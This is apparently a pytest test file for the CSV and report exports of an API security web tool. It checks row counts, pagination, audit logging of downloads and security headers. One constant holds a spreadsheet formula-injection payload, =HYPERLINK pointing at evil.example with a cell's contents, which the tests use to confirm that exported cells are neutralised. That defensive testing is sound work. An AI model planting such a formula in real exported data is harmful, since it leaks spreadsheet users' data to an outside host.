import csv
import io
from typing import Final

import pytest

from apiward.core.finding import Severity
from apiward.core.person import Role
from apiward.web.pages import PAGES
from tests.app.guarding.stored import stored_events
from tests.prove.sample import finding, report
from tests.web.entering import Elsewhere, with_person
from tests.web.made import Browser, Shop, week, with_inventory

LISTS: Final = {page.path: page.name for page in PAGES if page.is_list}
FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1)'


def rows(browser: Browser, path: str) -> list[list[str]]:
    """Return the lines of a list, without its head."""
    answer = browser.http.get(path)
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert answer.headers["content-disposition"].startswith('attachment; filename="apiward-')
    head, *found = csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""))
    assert all(len(line) == len(head) for line in found)
    return found


def test_every_list_has_as_many_lines_as_its_twin_has_entries(full: tuple[Browser, str]) -> None:
    browser, _ = full
    causes = browser.json("/risks.json?kind=open")["causes"]
    assert len(rows(browser, "/risks.csv?kind=open")) == sum(len(cause["findings"]) for cause in causes) > 0
    for path, name in (
        ("/incidents", "lines"),
        ("/traffic", "refusals"),
        ("/inventory", "operations"),
        ("/inventory?kind=new", "operations"),
        ("/reports", "scans"),
    ):
        start, _, query = path.partition("?")
        twin = browser.json(f"{start}.json?{query}")[name]
        assert [line[0] for line in rows(browser, f"{start}.csv?{query}")] == [
            one.get("id", one.get("operation", one.get("at"))) for one in twin
        ]
        assert twin


def test_a_file_holds_more_lines_than_a_page(empty: Shop) -> None:
    empty.store([one._replace(outcome="refused", operation=f"GET /a{one.id}") for one in week(60)])
    browser = Browser(empty)
    assert len(browser.json("/inventory.json")["operations"]) == 25
    assert len(rows(browser, "/inventory.csv")) == 60


def test_what_comes_from_outside_is_no_formula_in_any_list(empty: Shop) -> None:
    nasty = finding(operation=FORMULA, place=FORMULA, saw=FORMULA, severity=Severity.HIGH)
    empty.scan(report([nasty], operations=(FORMULA,)))
    empty.store([one._replace(operation=FORMULA, principal=f"user:{FORMULA}") for one in week()])
    empty.incident(who=f"user:{FORMULA}", where=FORMULA)
    with_inventory(empty)
    browser = Browser(empty)
    seen = 0
    for path in LISTS:
        for line in rows(browser, f"{path}.csv"):
            seen += sum("HYPERLINK" in cell for cell in line)
            assert [cell for cell in line if cell.lstrip().startswith(("=", "+", "-", "@"))] == []
    assert seen >= 4


def test_a_page_tells_where_its_list_and_only_a_list_is_to_be_had(full: tuple[Browser, str]) -> None:
    browser, _ = full
    assert '<a href="/risks.csv?kind=smaller">' in browser.page("/risks?kind=smaller&done=x")
    assert "CSV" not in browser.page("/today")
    assert browser.http.get("/today.csv").status_code == 404
    assert browser.http.get("/settings.csv").status_code == 404
    assert browser.http.post("/risks.csv").status_code == 404


def test_who_takes_a_list_stands_in_the_record_by_name(empty: Shop) -> None:
    empty.scan(report([finding()]))
    with_person(empty, "bea", Role.VIEWER)
    viewer = Elsewhere(empty)
    viewer.log_in("bea")
    assert len(rows(viewer, "/risks.csv")) == 1
    assert viewer.http.get("/reports/proof.html").status_code == 200
    said = [(one.said, one.principal) for one in stored_events(empty.source.place) if "handed out" in one.said]
    assert [one[0] for one in said] == [
        "The list of risks was handed out as CSV. Lines: 1.",
        "The report (proof) was handed out as html.",
    ]
    assert {one[1] for one in said} == {"person:bea"}


def test_where_the_record_takes_nothing_no_list_is_handed_out(
    full: tuple[Browser, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    browser, _ = full
    monkeypatch.setattr("apiward.app.page.handing_out.tell", lambda *_, **__: False)
    answer = browser.http.get("/risks.csv")
    assert (answer.status_code, "Nothing was handed out." in answer.text) == (409, True)
    assert answer.headers["content-type"].startswith("text/html")


def test_a_report_is_shown_under_a_policy_for_its_own_style_alone(full: tuple[Browser, str]) -> None:
    browser, _ = full
    page = browser.http.get("/reports/full.html")
    policy = page.headers["content-security-policy"]
    assert "unsafe" not in policy
    assert all(part in policy for part in ("default-src 'none'", "style-src 'sha256-", "frame-ancestors 'none'"))
    assert page.headers["content-disposition"] == 'inline; filename="apiward-full-2026-11-30.html"'
    data = browser.http.get("/reports/summary.json")
    assert data.json()["kind"] == "summary"
    assert data.headers["content-disposition"].startswith("attachment")
    assert browser.http.get("/reports/none.html").status_code == 404
    assert browser.http.get("/reports/full.exe").status_code == 404
